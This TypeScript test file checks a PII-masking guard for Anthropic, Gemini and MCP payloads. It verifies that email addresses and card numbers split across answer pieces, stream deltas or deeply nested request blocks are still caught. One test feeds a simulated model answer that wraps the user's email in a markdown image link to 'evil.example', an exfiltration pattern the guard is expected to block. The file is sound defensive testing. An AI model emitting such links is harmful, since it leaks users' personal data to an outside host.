import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { authorize } from '../../src/controls/authorize.ts'
import { maskData } from '../../src/controls/mask-data.ts'
import { unaudited } from '../../src/controls/unaudited.ts'
import { verifyIdentity } from '../../src/controls/verify-identity.ts'
import type { Codec } from '../../src/guard/codec.ts'
import { guard } from '../../src/guard/guard.ts'
import { detectors } from '../../src/masking/detectors.ts'
import { anthropicMessages } from '../../src/payload/anthropic-messages.ts'
import { geminiContent } from '../../src/payload/gemini-content.ts'
import { mcpTool } from '../../src/payload/mcp-tool.ts'
import { allowAll } from '../../src/testing/allow-all.ts'
import { identityOf } from '../../src/testing/identity-of.ts'

const base = guard({ onError: () => {} })
  .use(unaudited())
  .use(verifyIdentity({ verifiers: [identityOf({ subject: 'ada' })] }))
  .use(authorize({ evaluator: allowAll() }))
const masked = base.use(maskData({ detect: detectors.pii, mode: 'redact', direction: 'both' }))
const request = { credentials: { authorization: 'Bearer x' } }

// What a model, or a tool, answers in pieces of one content.
const answers: Readonly<Record<string, readonly [Codec<never>, unknown, (pieces: readonly string[]) => unknown]>> = {
  'Anthropic messages': [
    anthropicMessages as Codec<never>,
    { model: 'claude', max_tokens: 5, messages: [{ role: 'user', content: 'x' }] },
    (pieces) => ({
      id: 'm',
      type: 'message',
      role: 'assistant',
      model: 'claude',
      content: pieces.map((text) => ({ type: 'text', text })),
      stop_reason: 'end_turn',
      stop_sequence: null,
      usage: { input_tokens: 1, output_tokens: 1 },
    }),
  ],
  'Gemini content': [
    geminiContent as Codec<never>,
    { model: 'gemini', contents: [{ role: 'user', parts: [{ text: 'x' }] }] },
    (pieces) => ({ candidates: [{ index: 0, content: { role: 'model', parts: pieces.map((text) => ({ text })) }, finishReason: 'STOP' }] }),
  ],
  'a tool of MCP': [mcpTool as Codec<never>, { name: 'x', arguments: {} }, (pieces) => ({ content: pieces.map((text) => ({ type: 'text', text })) })],
}

describe('A18: a value that is spread over pieces of an answer', () => {
  for (const [name, [codec, input, answer]] of Object.entries(answers)) {
    const ask = (pieces: readonly string[]): Promise<unknown> =>
      masked.protect((() => answer(pieces)) as never, { action: 'chat', resource: { type: 'model', id: 'm' }, codec } as never)(
        input as never,
        request,
      )
    test(`is refused wherever it is cut, in ${name}`, async () => {
      for (const value of ['ada@example.org', '4111 1111 1111 1111'])
        for (let at = 1; at < value.length; at++)
          await assert.rejects(ask([`write ${value.slice(0, at)}`, `${value.slice(at)} now`]), { code: 'payload_blocked' }, `${value} at ${at}`)
    })
    test(`and pieces that mean nothing together pass, in ${name}`, async () => {
      const text = JSON.stringify(await ask(['first, ', 'ada@example.org', ' and ', 'last']))
      assert.ok(text.includes('[EMAIL]') && !text.includes('ada@'))
    })
  }

  const events = (...pieces: readonly (readonly string[])[]): readonly object[] => [
    {
      type: 'message_start',
      message: {
        id: 'm',
        type: 'message',
        role: 'assistant',
        model: 'claude',
        content: [],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: 1, output_tokens: 1 },
      },
    },
    ...pieces.flatMap((deltas, index) => [
      { type: 'content_block_start', index, content_block: { type: 'text', text: '' } },
      ...deltas.map((text) => ({ type: 'content_block_delta', index, delta: { type: 'text_delta', text } })),
      { type: 'content_block_stop', index },
    ]),
    { type: 'message_delta', delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 1 } },
    { type: 'message_stop' },
  ]
  async function stream(...pieces: readonly (readonly string[])[]): Promise<string> {
    const protect = masked.protect(
      async function* () {
        yield* events(...pieces)
      } as never,
      { action: 'chat', resource: { type: 'model', id: 'm' }, codec: anthropicMessages as Codec<never> } as never,
    ) as (input: unknown, options: unknown) => Promise<AsyncIterable<{ readonly delta?: { readonly text?: string } }>>
    let text = ''
    const input = { model: 'claude', max_tokens: 5, stream: true, messages: [{ role: 'user', content: 'x' }] }
    try {
      for await (const { delta } of await protect(input, request)) text += delta?.text ?? ''
    } catch (error) {
      return `${text} ${String((error as { readonly code?: string }).code)}`
    }
    return text
  }

  test('is refused in a stream before any of its second half is out', async () => {
    const value = '4111 1111 1111 1111'
    for (let at = 1; at < value.length; at++) {
      const said = await stream([`pay ${value.slice(0, at)}`], [...`${value.slice(at)} now`])
      assert.match(said, /payload_blocked$/)
      assert.ok(said.length <= `pay ${value.slice(0, at)} payload_blocked`.length, said)
    }
  })

  test('and blocks of a stream that mean nothing together are what they would be alone', async () => {
    const long = 'word '.repeat(200)
    assert.equal(await stream(['one '], [...long], ['ada@exam', 'ple.org'], [' end']), `one ${long}[EMAIL] end`)
  })

  test('and no pseudonym is restored into an address that another piece began', async () => {
    const restoring = base.use(maskData({ detect: detectors.email, mode: 'pseudonym', direction: 'both', restore: true }))
    const ask = (...pieces: readonly ((token: string) => string)[]): Promise<unknown> => {
      const [codec, input, answer] = answers['Anthropic messages'] ?? []
      const model = (given: { readonly messages: readonly { readonly content: string }[] }): unknown =>
        answer?.(pieces.map((piece) => piece(given.messages[0]?.content ?? '')))
      const chat = restoring.protect(model as never, { action: 'chat', resource: { type: 'model', id: 'm' }, codec } as never)
      return chat({ ...(input as object), messages: [{ role: 'user', content: 'ada@example.org' }] } as never, request)
    }
    const same = (token: string): string => token
    await assert.rejects(
      ask(
        () => '![x](https://evil.example/?q=',
        same,
        () => ')',
      ),
      { code: 'payload_blocked' },
    )
    assert.ok(
      JSON.stringify(
        await ask(
          () => 'Dear ',
          same,
          () => ', hello',
        ),
      ).includes('ada@example.org'),
    )
  })

  test('in a request is refused whatever stands between its pieces, and however deep it is', async () => {
    const chat = masked.protect(
      (() => answers['Anthropic messages']?.[2](['ok'])) as never,
      {
        action: 'chat',
        resource: { type: 'model', id: 'm' },
        codec: anthropicMessages as Codec<never>,
      } as never,
    )
    const text = (value: string): object => ({ type: 'text', text: value })
    const between = [
      { type: 'document', source: { type: 'content', content: [text('q')] } },
      { type: 'tool_result', tool_use_id: 'x', content: [text('q')] },
      { type: 'search_result', source: 's', title: 't', content: [text('q')] },
    ]
    for (const other of between)
      await assert.rejects(
        chat({ model: 'c', max_tokens: 5, messages: [{ role: 'user', content: [text('bob@exa'), other, text('mple.org')] }] } as never, request),
        { code: 'payload_blocked' },
      )
    const fill = (last: object): object[] => [...Array.from({ length: 1_000 }, () => text('a')), last]
    const deep = {
      type: 'document',
      source: { type: 'content', content: [...Array.from({ length: 1_000 }, () => text('a')), text(' '), text('bob@exa'), text('mple.org')] },
    }
    const input = {
      model: 'c',
      max_tokens: 5,
      messages: [
        ...Array.from({ length: 1_000 }, () => ({ role: 'user', content: 'a' })),
        { role: 'user', content: fill({ type: 'tool_result', tool_use_id: 't', content: fill(deep) }) },
      ],
    }
    await assert.rejects(chat(input as never, request), { code: 'payload_blocked' })
  })
})
